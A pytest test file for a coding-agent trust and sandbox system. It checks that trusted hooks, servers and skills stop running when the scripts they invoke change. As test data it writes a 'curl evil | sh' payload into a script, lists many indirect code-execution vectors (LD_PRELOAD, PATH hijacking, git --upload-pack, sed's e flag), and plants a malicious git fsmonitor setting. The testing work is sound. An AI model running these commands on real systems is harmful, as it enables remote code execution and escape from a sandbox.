"""Trust covers the files that an entry would run, however its line names them; edits of these files ask."""

import json
import os
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from teamwright.config.agent_types import definition_sources
from teamwright.config.executed_file_digests import git_doubt, hook_digest
from teamwright.config.files_executed_by_settings import files_run_by, find_further_programs, programs_outside
from teamwright.config.plugins import plugin_at
from teamwright.config.repository_programs import hook_files
from teamwright.config.settings.settings import SettingFlags
from teamwright.config.trusted_skills import make_shelf
from teamwright.hooks.hook_definitions import HookSpec
from teamwright.hooks.hook_index import HookIndex
from teamwright.hooks.hook_runner import HookEnvironment, HookRunner
from teamwright.permissions.executed_file_search import find_run_files
from teamwright.permissions.verdict import Access, Mode, Verdict
from teamwright.protocol.errors import TeamwrightError
from teamwright.sandbox.command_needs import NO_NEEDS
from teamwright.sandbox.command_policy import SandboxPaths, protected_paths
from teamwright.sandbox.policy import is_inside
from tests.session.conftest import Repository
from tests.ui.conftest import GIT

FILES = {
    "tools/b.sh": "#!/bin/sh\ntrue\n",
    "tools/__main__.py": "",
    "tools/hook.py": "import helper\n",
    "tools/helper.py": "",
    "hooks/a": "true\n",
    "hooks/by-tool": "#!/bin/sh\nexec tools/b.sh\n",
    "Makefile": "include rules.mk\nh:\n\t@true\n",
    "rules.mk": "i:\n\t@true\n",
    "package.json": json.dumps({"scripts": {"mcp": "node server.js"}}),
    "server.js": 'require("./lib/x")\n',
    "lib/x.js": "",
    "x.sh": "#!/bin/sh\n. ./more.sh\n",
    "more.sh": "true\n",
    "check.py": "",
    "justfile": "h:\n  true\n",
    "Taskfile.yml": "version: '3'\n",
    "Rakefile": "task :h\n",
    "compose.yaml": "services: {}\n",
    "pack/pyproject.toml": "[project]\n",
}
WAYS = {
    "cd tools && ./b.sh": "tools/b.sh",
    "(cd tools; sh b.sh)": "tools/b.sh",
    "python3 tools": "tools/__main__.py",
    "python3 tools ": "tools/helper.py",
    "python3 tools/hook.py": "tools/helper.py",
    "python -m tools.hook": "tools/hook.py",
    "for f in hooks/*; do sh $f; done": "hooks/a",
    "make -s h": "Makefile",
    "make h": "rules.mk",
    "npm run mcp": "package.json",
    "npm run -s mcp": "server.js",
    "node server.js": "lib/x.js",
    "just h": "justfile",
    "task h": "Taskfile.yml",
    "rake h": "Rakefile",
    "docker compose up": "compose.yaml",
    "uvx --from ./pack x": "pack/pyproject.toml",
    "source ./x.sh": "x.sh",
    ". ./x.sh": "more.sh",
    "./x.sh": "more.sh",
    "bash -c './x.sh'": "x.sh",
    "env X=1 ./x.sh": "x.sh",
    "exec ./x.sh": "x.sh",
    "timeout 5 nice ./x.sh": "x.sh",
    '"$CLAUDE_PROJECT_DIR"/x.sh': "x.sh",
    '"$(git rev-parse --show-toplevel)/x.sh"': "x.sh",
    'cd "$CLAUDE_PROJECT_DIR/tools" && ./b.sh': "tools/b.sh",
    "cat check.py | python3": "check.py",
    "python3 < check.py": "check.py",
    "if true; then ./x.sh; fi": "x.sh",
    "eval ./x.sh": "x.sh",
}
"""Lines, each with a file whose change would change what it runs."""

GIT_WAYS = {
    "./tools/b.sh": "tools/b.sh",
    "python3 tools": "tools/helper.py",
    "sh x.sh": "x.sh",
    "sh ./x.sh": "more.sh",
    "hooks/by-tool": "tools/b.sh",
    "python3 -m tools.hook": "tools/hook.py",
}


def define(repository: Repository, kind: str, line: str) -> None:
    """Write an entry of this kind with this line."""
    hook = {"type": "command", "command": line}
    match kind:
        case "hook":
            repository.write(".claude/settings.json", {"hooks": {"Stop": [{"hooks": [hook]}]}})
        case "server":
            repository.write(".mcp.json", {"mcpServers": {"x": {"command": "sh", "args": ["-c", line]}}})
        case "skill":
            repository.write(".claude/skills/x/SKILL.md", f"---\nname: x\ndescription: x\n---\nSee !`{line}`\n")
        case "check":
            repository.write(".teamwright/team.toml", f"[team]\ncheck = {json.dumps(line)}\n")
        case "status line":
            repository.write(".claude/settings.json", {"statusLine": hook})
        case _:
            subprocess.run(["git", "-C", str(repository.root), "config", "filter.y.clean", line], check=True)


def edit(repository: Repository, path: str) -> Verdict:
    policy = repository.policy(SettingFlags(permission_mode=Mode.ACCEPT_EDITS))
    written = policy.decide("Write", Access(writes=(repository.root / path,))).verdict
    command = Access(command=f"cp LICENSE {path}", cwd=repository.root)
    assert policy.decide("Bash", command).verdict is written
    return written


@pytest.fixture
def filled(repository):
    for name, text in FILES.items():
        repository.write(name, text).chmod(0o755)
    repository.write("README.md", "x")
    repository.write("LICENSE", "x")
    return repository


KINDS = ["hook", "server", "skill", "check", "status line", "filter"]


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("kind", KINDS)
def test_a_changed_file_needs_trust_again_and_its_edit_asks(filled, kind):
    ways = {"cd tools && ./b.sh": "tools/b.sh", "python3 tools": "tools/helper.py", "make h": "rules.mk"}
    require_trust(filled, kind, GIT_WAYS if kind == "filter" else ways)


@pytest.mark.finding("3P5")
@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS[:-1])
def test_a_changed_file_needs_trust_again_however_a_line_names_it(filled, kind):
    require_trust(filled, kind, WAYS)


def require_trust(filled: Repository, kind: str, ways: Mapping[str, str]) -> None:
    """Assert for each line that its file is covered by trust, and guarded."""
    assert edit(filled, "README.md") is Verdict.ALLOW
    for line, path in ways.items():
        define(filled, kind, line)
        # A setting of git has an entry, and the files that it names have another one.
        assert len({entry.name.removeprefix("files of ") for entry in filled.state().pending}) == 1
        filled.trust()
        assert (line, filled.state().pending) == (line, ())
        assert (line, edit(filled, path)) == (line, Verdict.ASK)
        before = (filled.root / path).read_text()
        (filled.root / path).write_text(f"{before}# changed\n")
        assert (line, len(filled.state().pending)) == (line, 1)
        (filled.root / path).write_text(before)
        assert (line, filled.state().pending) == (line, ())
    assert edit(filled, "README.md") is Verdict.ALLOW


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("path", ["tools/json.py", "tools/new/__init__.py", "hooks/b", "GNUmakefile"])
def test_a_new_file_that_a_line_would_run_asks(filled, path):
    lines = ["python3 tools", "for f in hooks/*; do sh $f; done", "make h"]
    hooks = [{"type": "command", "command": line} for line in lines]
    filled.write(".claude/settings.json", {"hooks": {"Stop": [{"hooks": hooks}]}})
    filled.trust()
    assert edit(filled, path) is Verdict.ASK
    filled.write(path, "x")
    assert len(filled.state().pending) == 1


@pytest.mark.finding("3P5")
def test_files_that_a_persons_own_hooks_name_are_guarded(filled):
    hooks = [{"type": "command", "command": line} for line in ("cd tools && ./b.sh", "npm run mcp")]
    filled.user({"hooks": {"Stop": [{"hooks": hooks}]}})
    assert [edit(filled, path) for path in ("tools/b.sh", "package.json", "server.js")] == [Verdict.ASK] * 3
    assert edit(filled, "README.md") is Verdict.ALLOW
    hook = filled.settings().hooks[0]
    assert (hook.files_digest, hook.confined_because) == ("", "")


READ_ONLY = (
    "cat data.rules",
    "grep -q TODO data.rules && ./tools/b.sh",
    "grep -q TODO data.rules || bash tools/b.sh",
    "test -f data.rules; python3 tools",
    "jq -e .on data.rules | grep -q true",
    "git diff --stat data.rules",
    "git add data.rules && ./tools/b.sh",
    "head -n 1 $CLAUDE_PROJECT_DIR/data.rules; $CLAUDE_PROJECT_DIR/tools/b.sh",
    "wc -l < data.rules",
)
OBEYED = (
    "cat data.rules | bash",
    "cat data.rules | ./tools/b.sh",
    "./tools/b.sh < data.rules",
    "./tools/b.sh data.rules",
    "bash tools/b.sh data.rules",
    "python3 tools/helper.py --rules data.rules",
    "sh data.rules",
    ". data.rules",
    'export MODE="$(cat data.rules)"; ./tools/b.sh',
    "cp data.rules /tmp/rules; ./tools/b.sh",
    "/opt/guard --rules data.rules",
    "guard --rules data.rules",
    "jq -f data.rules log.txt",
    "awk -f data.rules log.txt",
    "xargs -a data.rules ls",
    "env $(cat data.rules) ls",
    "git -c core.pager=./data.rules log",
    "git commit -F data.rules",
    "eval $(cat data.rules)",
    "npx prettier --config data.rules src",
    "make -f data.rules",
    "if grep -q x data.rules; then cat data.rules | python3 tools; fi",
)


@pytest.mark.finding("3F13")
@pytest.mark.parametrize("is_own", [True, False])
def test_a_file_that_a_hook_only_reads_by_known_programs_is_not_guarded_and_one_that_it_may_obey_is(filled, is_own):
    filled.write("data.rules", "x")
    found = {}
    for line in (*READ_ONLY, *OBEYED):
        hooks = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": line}]}]}}
        if is_own:
            filled.user(hooks)
        else:
            filled.write(".claude/settings.json", hooks)
            filled.trust()
        found[line] = edit(filled, "data.rules")
        if "tools" in line:
            assert (line, edit(filled, "tools/b.sh" if "b.sh" in line else "tools/helper.py")) == (line, Verdict.ASK)
    assert found == dict.fromkeys(READ_ONLY, Verdict.ALLOW) | dict.fromkeys(OBEYED, Verdict.ASK)


@pytest.mark.finding("3P5")
def test_no_confined_command_changes_a_script_that_a_persons_own_hook_runs_outside_of_the_sandbox(filled):
    hooks = [{"type": "command", "command": line} for line in ("cd tools && ./b.sh", "python3 tools", "npm run mcp")]
    filled.user({"hooks": {"Stop": [{"hooks": hooks}]}})
    outside = programs_outside(filled.settings(), filled.root)
    place = SandboxPaths(str(filled.root.parent), (), (), "", {}, outside)
    found = {os.path.relpath(path, filled.root) for path in protected_paths([str(filled.root)], (), place, NO_NEEDS)}
    assert found >= {"tools/b.sh", "tools"}
    assert not found & {"package.json", "README.md"}
    assert [bool(hook.confined_because) for hook in filled.settings().hooks] == [False, False, True]
    filled.user({"hooks": {"Stop": [{"hooks": [{**hooks[2], "sandbox": False}]}]}})
    assert [hook.confined_because for hook in filled.settings().hooks] == [""]
    filled.user({"mcpServers": {"own": {"command": "sh", "args": ["tools/b.sh"]}}})
    assert str(filled.root / "tools/b.sh") in programs_outside(filled.settings(), filled.root)


@pytest.mark.promise("K1")
def test_no_confined_command_changes_a_script_that_a_repositorys_hook_runs_outside_of_the_sandbox(filled):
    for kind in ("hook", "status line"):
        define(filled, kind, "cd tools && ./b.sh")
        filled.trust()
        assert str(filled.root / "tools/b.sh") in programs_outside(filled.settings(), filled.root)
        define(filled, kind, "make h")
        filled.trust()
        assert str(filled.root / "Makefile") not in programs_outside(filled.settings(), filled.root)


@pytest.mark.promise("K1")
@pytest.mark.parametrize("place", ["agent type", "server of an agent type", "plugin"])
def test_what_a_persons_agent_types_and_plugins_run_is_guarded_and_no_confined_command_changes_it(filled, place):
    assert edit(filled, "tools/b.sh") is Verdict.ALLOW
    hooks = {"Stop": [{"hooks": [{"type": "command", "command": "cd tools && ./b.sh"}]}]}
    plugins = []
    if place == "plugin":
        plugin = filled.root.parent / "plugin"
        (plugin / ".claude-plugin").mkdir(parents=True)
        (plugin / ".claude-plugin/plugin.json").write_text(json.dumps({"name": "p"}))
        (plugin / "hooks").mkdir()
        (plugin / "hooks/hooks.json").write_text(json.dumps({"hooks": hooks}))
        plugins = [plugin_at(plugin)]
    else:
        servers = {"x": {"command": "sh", "args": ["tools/b.sh"]}}
        field = {"hooks": hooks} if place == "agent type" else {"mcpServers": servers}
        agents = filled.home.own / "agents"
        agents.mkdir(parents=True)
        (agents / "reviewer.md").write_text(f"---\nname: reviewer\ndescription: x\n{json.dumps(field)[1:-1]}\n---\nx")
    sources = definition_sources(filled.home, filled.root, compat=True, plugins=plugins)
    further = find_further_programs(sources, filled.home, filled.root)
    assert str(filled.root / "tools/b.sh") in programs_outside(filled.settings(), filled.root, further)
    run = files_run_by(filled.settings(), filled.root, further)
    assert filled.root / "tools/b.sh" in run.files
    if place != "plugin":
        assert edit(filled, "tools/b.sh") is Verdict.ASK


GIT_SETTINGS = {
    ("core.hooksPath", "tools/hooks"): "tools/hooks/pre-commit",
    ("core.fsmonitor", "./tools/b.sh"): "tools/b.sh",
    ("filter.x.clean", "sh x.sh"): "more.sh",
    ("diff.x.textconv", "./tools/later.sh"): "tools/later.sh",
    ("filter.x.process", "python3 tools"): "tools/helper.py",
    ("include.path", "{root}/shared.inc"): "shared.inc",
}


@pytest.mark.promise("K1")
@pytest.mark.parametrize("scope", ["--local", "--global"])
def test_what_git_obeys_by_its_settings_is_guarded_before_trust_and_no_confined_command_changes_it(filled, scope):
    for (name, value), path in GIT_SETTINGS.items():
        assert (name, edit(filled, path)) == (name, Verdict.ALLOW)
        assert not programs_outside(filled.settings(), filled.root)
        git = ["git", "-C", str(filled.root), "config", scope]
        subprocess.run([*git, name, value.format(root=filled.root)], check=True)
        assert (name, edit(filled, path)) == (name, Verdict.ASK)
        closed = programs_outside(filled.settings(), filled.root)
        assert any(is_inside(str(filled.root / path), one) for one in closed), name
        assert edit(filled, "README.md") is Verdict.ALLOW
        subprocess.run([*git, "--unset", name], check=True)


@pytest.mark.promise("K1")
def test_settings_of_git_that_name_programs_elsewhere_guard_no_file_of_their_name(filled):
    for name, value in (("core.pager", "less"), ("credential.helper", "store"), ("core.editor", "code --wait")):
        subprocess.run(["git", "-C", str(filled.root), "config", name, value], check=True)
    assert [edit(filled, path) for path in ("less", "store", "code")] == [Verdict.ALLOW] * 3
    assert not programs_outside(filled.settings(), filled.root)


@pytest.mark.finding("3P5")
async def test_a_hook_of_a_repository_does_not_run_after_a_change_of_its_script(filled):
    filled.write("tools/b.sh", f"#!/bin/sh\necho ran >> {filled.root}/log\n")
    define(filled, "hook", "cd tools && ./b.sh")
    filled.trust()
    notices: list[str] = []
    root = filled.root
    place = HookEnvironment(
        root, {"PATH": "/usr/bin:/bin"}, digest=lambda hook: hook_digest(root, hook, hook_files(root, hook))
    )
    runner = HookRunner(HookIndex(filled.settings().hooks), place, lambda text, _level: notices.append(text))
    await runner.fire("Stop", {})
    assert ((root / "log").read_text(), notices) == ("ran\n", [])
    (root / "tools" / "b.sh").write_text(f"#!/bin/sh\necho evil >> {root}/log\n")
    await runner.fire("Stop", {})
    assert (root / "log").read_text() == "ran\n"
    assert "was changed since it was trusted: teamwright trust" in notices[0]


@pytest.mark.parametrize(
    "line", ["sh t/run.txt", ". ./t/run.txt", "python3 t/run.txt", "node t/run.md", "sh ./t/more.sh"]
)
def test_a_script_counts_whatever_its_name_is(filled, line):
    for name in ("t/run.txt", "t/run.md"):
        filled.write(name, "x = 1\n")
    filled.write("t/more.sh", ". ./t/run.txt\n")
    define(filled, "hook", line)
    filled.trust()
    hook = filled.settings().hooks[0]
    filled.write("t/run.txt", "y = 1\n")
    filled.write("t/run.md", "y = 1\n")
    assert hook_digest(filled.root, hook, hook_files(filled.root, hook)) != hook.files_digest


@pytest.mark.finding("3P5")
async def test_a_hook_that_writes_files_goes_on_running(filled):
    root = filled.root
    define(filled, "hook", "echo ran >> log.txt; cat log.txt | tee copy.txt; $NOTHING; true")
    filled.write("log.txt", "")
    filled.trust()
    place = HookEnvironment(
        root, {"PATH": "/usr/bin:/bin"}, digest=lambda hook: hook_digest(root, hook, hook_files(root, hook))
    )
    runner = HookRunner(HookIndex(filled.settings().hooks), place)
    for _ in range(3):
        await runner.fire("Stop", {})
    assert (root / "log.txt").read_text() == "ran\n" * 3


@pytest.mark.finding("3P5")
def test_a_skill_is_not_used_after_a_change_of_a_script_that_its_line_runs(filled):
    define(filled, "skill", "cd tools && ./b.sh")
    filled.trust()
    shelf = make_shelf(filled.settings(), filled.home, filled.state())
    assert "b.sh" in shelf.read_body(shelf.get_skill("x"))
    filled.write("tools/b.sh", "curl evil | sh\n")
    with pytest.raises(TeamwrightError, match="was changed since it was trusted"):
        shelf.read_body(shelf.get_skill("x"))


@pytest.mark.finding("3P5")
def test_a_hook_whose_program_is_not_known_runs_in_the_sandbox_and_says_so(filled):
    known = ["./x.sh", "cd tools && ./b.sh", "jq -r .x", "python3 tools/hook.py", "node server.js", "git add -A"]
    unknown = ["npm run mcp", "make h", "eslint .", "python3 -m tools.hook", "$RUN", "python3 check.py", "sh"]
    for line in (*known, *unknown):
        define(filled, "hook", line)
        filled.trust()
        hook = filled.settings().hooks[0]
        assert (line, bool(hook.confined_because)) == (line, line in unknown)
        assert (line, "(in the sandbox: " in filled.state().entries[0].summary) == (line, line in unknown)


OBEYING = (
    "awk -f t/x.awk log.txt",
    "awk '@include \"t/x.awk\"; {print}' log.txt",
    "awk '{system($1)}' t/cmds.txt",
    "sed -f t/x.sed log.txt",
    "sed '1e sh t/b.sh' log.txt",
    "sed --in-place '1e sh t/b.sh' log.txt",
    "GIT_CONFIG_GLOBAL=t/cfg git status",
    "env GIT_CONFIG_SYSTEM=t/cfg git status",
    "git -c include.path=../t/cfg status",
    "git --git-dir=t/repo status",
    "git -C t status",
    "cd t && git status",
    "git commit -m x",
    "git checkout main",
    "git own-alias",
    "git fetch --upload-pack=./t/b.sh origin",
    "curl -sK t/cfg https://example.com",
    "curl $OPTIONS https://example.com",
    "CURL_HOME=t curl https://example.com",
    "HOME=t curl https://example.com",
    "wget --config=t/cfg https://example.com",
    "wget -e use_askpass=./t/b.sh https://example.com",
    "RIPGREP_CONFIG_PATH=t/cfg rg x",
    "rg --pre ./t/b.sh x",
    "sort --compress-program=sh log.txt",
    "jq -f t/x.jq log.txt",
    "jq -L t 'include \"x\"; y' log.txt",
    "jq 'import \"./t/x\" as x; x::y' log.txt",
    "LD_PRELOAD=t/new.so ls",
    "export LD_LIBRARY_PATH=t; ls",
    'PATH="t:$PATH" ls',
    'export PATH="$PWD/t:$PATH"; ls',
    "read PATH < t/cfg; ls",
    "printf -v PATH %s t; ls",
    "export $(cat t/cfg); ls",
    "env $(cat t/cfg) ls",
    "ruby t/x.rb",
    "perl t/x.pl",
    "php t/x.php",
    "lua t/x.lua",
    "python3 -c 'import json'",
    "python3 -cI",
    "python3 -c 'import sys' -I",
    "python3 -I -c 'exec(open(\"t/cmds.txt\").read())'",
    "python3 -I -m unittest",
    "python3 -m json.tool",
    "python3 t/starts.py",
    "python3 t/imports_starts.py",
    "node t/starts.js",
    "node --env-file=t/cfg server.js",
    "node -r ./t/x server.js",
    "node t",
    ". t?d/b.sh",
    "sh t*/b.sh",
    "./t*/b.sh",
    "./by-make",
    "./by-node",
    "./compiled",
    "cp t/cmds.txt tools/new.sh; sh tools/new.sh",
    "cat t/cmds.txt > x.sh; ./x.sh",
    "cp t/cmds.txt .; ./cmds.txt",
    "cat t/cmds.txt > /var/tmp/x; sh /var/tmp/x",
    "sed -i s/a/b/ x.sh; ./x.sh",
    "sort -o x.sh t/cmds.txt; ./x.sh",
    "git restore --source other x.sh && ./x.sh",
    "bash --rcfile t/b.sh -i",
    'eval "$(cat t/cmds.txt)"',
    "sh ~/elsewhere.sh",
    "eslint .",
    "npx x",
    "make -f t/rules",
    "gh pr checkout 1",
    "gh own-alias list",
)
"""Lines that obey files which the search cannot all know."""

KNOWN = (
    "awk -F: '{print $1}' log.txt",
    "sed -e s/a/b/ log.txt",
    "sed -i s/a/b/ log.txt",
    "git diff --stat",
    "git log --oneline -5",
    "git add -A",
    "git fetch origin",
    'git -C "$CLAUDE_PROJECT_DIR" status',
    "curl -s -X POST -d x https://example.com",
    "jq -r .tool_input.file_path",
    'jq -r --arg x "$y" .x',
    "rg -n x",
    "sort -u log.txt",
    'PATH="$HOME/bin:/usr/bin" ls',
    "GIT_TERMINAL_PROMPT=0 git fetch origin",
    "X=t ls",
    "python3 -I -c 'import json'",
    "python3 -Pc 'import json'",
    "python3 -I -m json.tool",
    "python3 -W ignore tools/hook.py",
    "bash -eo pipefail x.sh",
    "chmod +x x.sh && ./x.sh",
    "./by-python",
    "ls *.py | wc -l",
    "cat t/*.txt",
    "gh pr list",
    "notify-send done",
)


def fill_forms(filled: Repository) -> None:
    for name in ("t/x.awk", "t/x.sed", "t/x.jq", "t/cfg", "t/cmds.txt", "t/x.rb", "t/x.pl", "t/x.php", "t/x.lua"):
        filled.write(name, "x")
    filled.write("t/b.sh", "true\n").chmod(0o755)
    filled.write("t/rules", "h:\n")
    filled.write("t/starts.py", "import subprocess\nsubprocess.run(['make'])\n")
    filled.write("t/imports_starts.py", "from starts import run\n")
    filled.write("t/starts.js", 'require("child_process").execSync("make")\n')
    filled.write("by-make", "#!/usr/bin/make -f\nh:\n").chmod(0o755)
    filled.write("by-node", '#!/usr/bin/env node\nrequire("left-pad")\n').chmod(0o755)
    filled.write("by-python", "#!/usr/bin/env -S python3\nimport json\n").chmod(0o755)
    (filled.root / "by-python").rename(filled.root / "tools" / "by-python")
    (filled.root / "by-python").symlink_to("tools/by-python")
    filled.write("compiled", "\x7fELF\0\0").chmod(0o755)
    filled.write("log.txt", "")


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("line", OBEYING)
def test_a_line_that_obeys_files_which_trust_cannot_compare_is_in_doubt(filled, line):
    fill_forms(filled)
    assert find_run_files(line, filled.root).unknown


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("line", KNOWN)
def test_a_line_whose_files_are_all_known_is_not_in_doubt(filled, line):
    fill_forms(filled)
    assert find_run_files(line, filled.root).unknown == ""


@pytest.mark.finding("3P5")
@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("./starts", "t/b.sh"),
        ("bash -o pipefail t/b.sh", "t/b.sh"),
        ("python3 -W ignore tools/hook.py", "tools/hook.py"),
        ("./by-python", "tools/new.py"),
        ("awk -f t/x.awk log.txt", "t/x.awk"),
        ("ruby t/x.rb", "t/x.rb"),
        ("cd tools && sh $PWD/b.sh", "tools/b.sh"),
        ("eslint .", "eslint.config.js"),
    ],
)
def test_the_program_of_a_first_line_and_files_after_options_count(filled, line, path):
    fill_forms(filled)
    filled.write("starts", "#!./t/b.sh\n").chmod(0o755)
    define(filled, "hook", line)
    filled.trust()
    assert edit(filled, path) is Verdict.ASK
    filled.write(path, "# changed\n")
    assert len(filled.state().pending) == 1


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("line", ["sh scripts/b.sh", "./scripts/b.sh", "python3 scripts/hook.py", "node scripts/x.js"])
def test_a_link_on_the_way_to_a_script_counts(filled, line):
    filled.write("tools/x.js", "")
    filled.write("evil/b.sh", "#!/bin/sh\ntrue\n").chmod(0o755)
    (filled.root / "scripts").symlink_to("tools")
    define(filled, "hook", line)
    filled.trust()
    assert filled.settings().hooks[0].confined_because == ""
    policy = filled.policy(SettingFlags(permission_mode=Mode.ACCEPT_EDITS))
    for command in ("mv scripts away", "mv -T x.sh scripts", "ln -sfn evil scripts", "rm scripts"):
        replaced = Access(command=command, cwd=filled.root)
        assert (command, policy.decide("Bash", replaced).verdict) == (command, Verdict.ASK)
    (filled.root / "scripts").unlink()
    (filled.root / "scripts").symlink_to("evil")
    assert len(filled.state().pending) == 1
    filled.user({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": line}]}]}})
    (filled.root / ".claude" / "settings.json").unlink()
    assert str(filled.root / "scripts") in programs_outside(filled.settings(), filled.root)


@pytest.mark.finding("3P5")
def test_a_persons_own_hook_is_confined_where_files_of_the_project_say_what_runs(filled):
    fill_forms(filled)
    outside = ["notify-send x", "~/bin/hook", "python3 ~/hook.py", "node ~/hook.js", "ruff check .", "./x.sh", "ls t"]
    confined = ["python3 -c 'import json'", "eslint .", "GIT_CONFIG_GLOBAL=t/cfg git status", ". t?d/b.sh"]
    confined += ['eval "$(cat t/cmds.txt)"', "awk -f t/x.awk log.txt", "ruby t/x.rb", "python3 t/starts.py"]
    for line in (*outside, *confined):
        filled.user({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": line}]}]}})
        assert (line, bool(filled.settings().hooks[0].confined_because)) == (line, line in confined)


@pytest.mark.finding("3P5")
def test_powershell_is_in_doubt(filled):
    hook = {"type": "command", "command": "ls", "shell": "powershell"}
    filled.write(".claude/settings.json", {"hooks": {"Stop": [{"hooks": [hook]}]}})
    filled.trust()
    assert filled.settings().hooks[0].confined_because


@pytest.mark.finding("3P5")
async def test_a_hook_in_doubt_says_once_that_no_sandbox_works(filled):
    define(filled, "hook", "python3 -c 'print()'")
    filled.trust()
    notices: list[str] = []
    root = filled.root
    place = HookEnvironment(
        root, {"PATH": os.environ["PATH"]}, digest=lambda hook: hook_digest(root, hook, hook_files(root, hook))
    )
    runner = HookRunner(HookIndex(filled.settings().hooks), place, lambda text, _level: notices.append(text))
    for _ in range(2):
        await runner.fire("Stop", {})
    assert len(notices) == 1
    assert "runs without the sandbox, which is off or does not work here" in notices[0]
    assert "Python finds modules in its directory" in notices[0]


CODE = {
    "py": (
        "import imp\nimp.load_source('x', 't/b.sh')\n",
        "import logging.config\nlogging.config.fileConfig('t/cfg')\n",
        "import pkgutil\n",
        "connection.load_extension('./x.so')\n",
        "import os as o\no.system('make')\n",
        "from sys import path\npath.append('t')\n",
        "import builtins\nbuiltins.exec(x)\n",
        "import unittest\nunittest.main('x')\n",
        "import json; import starts\n",
        "if True: import starts\n",
        "from pack import (\n    starts,\n)\n",
        "from concurrent.futures import ProcessPoolExecutor\n",
    ),
    "mjs": (
        "await import('./starts.js')\n",
        'import{a}from"./starts.js"\n',
        'import"./starts.js"\n',
        "require ('./starts')\n",
        "import a from './other.mjs?v=1'\n",
        "import a from './%6fther.mjs'\n",
        "process.binding('spawn_sync')\n",
        "process.getBuiltinModule('child_' + 'process')\n",
        "const f = Function('x')\n",
        "import { run } from 'node:test'\n",
        "database.loadExtension('./x.so')\n",
        "import a from 'node:../x'\n",
    ),
}
"""Scripts that load code or start programs."""


@pytest.mark.parametrize(("end", "code"), [(end, code) for end, codes in CODE.items() for code in codes])
def test_a_script_that_loads_code_in_any_way_is_in_doubt(filled, end, code):
    fill_forms(filled)
    filled.write("t/pack/starts.py", "import subprocess\n")
    filled.write("t/pack/__init__.py", "")
    filled.write(f"t/loads.{end}", code)
    program = "python3 -I" if end == "py" else "node"
    assert find_run_files(f"{program} t/loads.{end}", filled.root).unknown


def test_a_script_that_only_names_such_words_is_not_in_doubt(filled):
    filled.write("t/plain.py", "import json\n# pytest and git run later\nprint(json.dumps('run pytest'))\n")
    filled.write("t/plain.mjs", "import { readFileSync } from 'node:fs'\nconsole.log('a test from \\'x\\'')\n")
    for line in ("python3 -I t/plain.py", "node t/plain.mjs"):
        assert find_run_files(line, filled.root).unknown == ""


def add_submodule(root: Path) -> None:
    """Make a repository inside of this one a submodule, whose configuration would run a program."""
    inner = root / "inner"
    subprocess.run(["git", "init", "-q", str(inner)], check=True)
    subprocess.run([*GIT, "commit", "-q", "--allow-empty", "-m", "x"], cwd=inner, check=True)
    subprocess.run(["git", "config", "core.fsmonitor", "echo ran > ran; false"], cwd=inner, check=True)
    subprocess.run(["git", "-c", "advice.addEmbeddedRepo=false", "add", "inner"], cwd=root, check=True)


@pytest.mark.parametrize("whose", ["the repository's", "a person's"])
@pytest.mark.parametrize("line", ["git status --short", "git add -A", "sh t/shows.sh"])
async def test_git_in_a_hook_is_confined_from_the_moment_when_there_is_a_submodule(filled, line, whose):
    filled.write("t/shows.sh", "git diff --stat\n")
    filled.user({} if whose == "the repository's" else {"hooks": {"Stop": [{"hooks": [{"command": line}]}]}})
    define(filled, "hook", line if whose == "the repository's" else "true")
    trusted, root, asked = filled.trust().trusted_git, filled.root, list[str]()

    async def confine(hook: HookSpec, _cwd: Path) -> None:
        asked.append(hook.confined_because)

    env = {"PATH": "/usr/bin:/bin"}
    place = HookEnvironment(root, env, confine=confine, git_doubt=lambda place: git_doubt(place, trusted))
    runner = HookRunner(HookIndex(filled.settings().hooks), place)
    await runner.fire("Stop", {})
    assert asked == []
    add_submodule(root)
    await runner.fire("Stop", {})
    assert len(asked) == 1 and "git may run a program" in asked[0]
    filled.trust()
    await runner.fire("Stop", {})
    assert len(asked) == 2


@pytest.mark.finding("3P5")
def test_a_root_behind_a_link_is_the_root(filled):
    behind = filled.root.parent / "link"
    behind.symlink_to(filled.root)
    line = 'sh "$PWD/x.sh"; git status'
    assert find_run_files(line, behind) == find_run_files(line, behind, behind) == find_run_files(line, filled.root)


@pytest.mark.finding("3P5")
def test_a_search_has_bounds(filled):
    for number in range(300):
        filled.write(f"many/{number}.py", "")
        filled.write(f"chain/{number}.sh", f"sh chain/{number + 1}.sh\n")
    found = find_run_files("python3 many; sh chain/0.sh", filled.root)
    assert found.unknown
    assert len(found.files) < 100
